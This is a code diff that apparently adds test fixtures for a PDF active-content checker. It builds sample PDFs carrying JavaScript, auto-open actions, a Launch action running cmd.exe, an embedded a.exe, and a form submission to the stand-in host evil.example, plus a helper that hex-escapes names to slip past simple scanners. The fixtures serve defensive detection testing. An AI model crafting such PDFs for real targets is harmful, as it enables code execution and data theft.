@@ -3,6 +3,7 @@
 import io
 import os
 import random
+import re
 import struct
 import zipfile
 import zlib
@@ -165,3 +166,43 @@ def libreoffice_pdf(workdir) -> bytes:
     subprocess.run(["soffice", f"-env:UserInstallation=file://{workdir}/profile", "--headless", "--convert-to", "pdf",
                     "--outdir", str(workdir), str(source)], check=True, capture_output=True, timeout=180)
     return (workdir / "form.pdf").read_bytes()
+
+
+def annotation(action: bytes) -> dict:
+    """A link on the page whose click runs action."""
+    return {"page": b"/Annots [4 0 R]",
+            "more": [b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << %s >> >>" % action]}
+
+
+# Active content, by the name the check reports → how a file carries it: entries added to the catalog and
+# the page, and objects 4, 5, … of raw_pdf.
+ACTIVE_PDFS = {
+    "javascript-name-tree": ("JavaScript", {"catalog": b"/Names << /JavaScript 4 0 R >>",
+                                            "more": [b"<< /Names [(a) 5 0 R] >>", b"<< /S /JavaScript /JS (app.alert(1)) >>"]}),
+    "open-action-js": ("JavaScript", {"catalog": b"/OpenAction 4 0 R",
+                                      "more": [b"<< /S /JavaScript /JS (this.exportDataObject()) >>"]}),
+    "open-action-uri": ("OpenAction", {"catalog": b"/OpenAction << /S /URI /URI (http://evil.example/) >>"}),
+    "page-aa": ("AA", {"page": b"/AA << /O << /S /Named /N /NextPage >> >>"}),
+    "launch": ("Launch", annotation(b"/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >>")),
+    "embedded-files": ("EmbeddedFiles", {"catalog": b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
+                                         "more": [b"<< /Type /Filespec /F (a.exe) >>"]}),
+    "xfa": ("XFA", {"catalog": b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", "more": [b"<< >>"]}),
+    "rich-media": ("RichMedia", {"page": b"/Annots [4 0 R]",
+                                 "more": [b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"]}),
+    "submit-form": ("SubmitForm", annotation(b"/S /SubmitForm /F (http://evil.example/)")),
+    "import-data": ("ImportData", annotation(b"/S /ImportData /F (data.fdf)")),
+    "goto-remote": ("GoToR", annotation(b"/S /GoToR /F (other.pdf) /D [0 /Fit]")),
+    "goto-embedded": ("GoToE", annotation(b"/S /GoToE /D [0 /Fit] /T << /R /C /N (a) >>")),
+}
+
+
+def obfuscated(body: bytes) -> bytes:
+    """Every name with its second letter as a #xx escape, which readers decode: /J#61vaScript."""
+    return re.sub(rb"/([A-Za-z])([A-Za-z]\w*)", lambda m: b"/%s#%02x%s" % (m[1], m[2][0], m[2][1:]), body)
+
+
+def active_pdf(parts: dict, *, packed: bool, hide: bool) -> bytes:
+    """One of ACTIVE_PDFS, loose or in an object stream, its names plain or hex-escaped."""
+    hidden = obfuscated if hide else (lambda body: body)
+    return raw_pdf(hidden(parts.get("catalog", b"")), hidden(parts.get("page", b"")),
+                   *map(hidden, parts.get("more", [])), packed=packed)
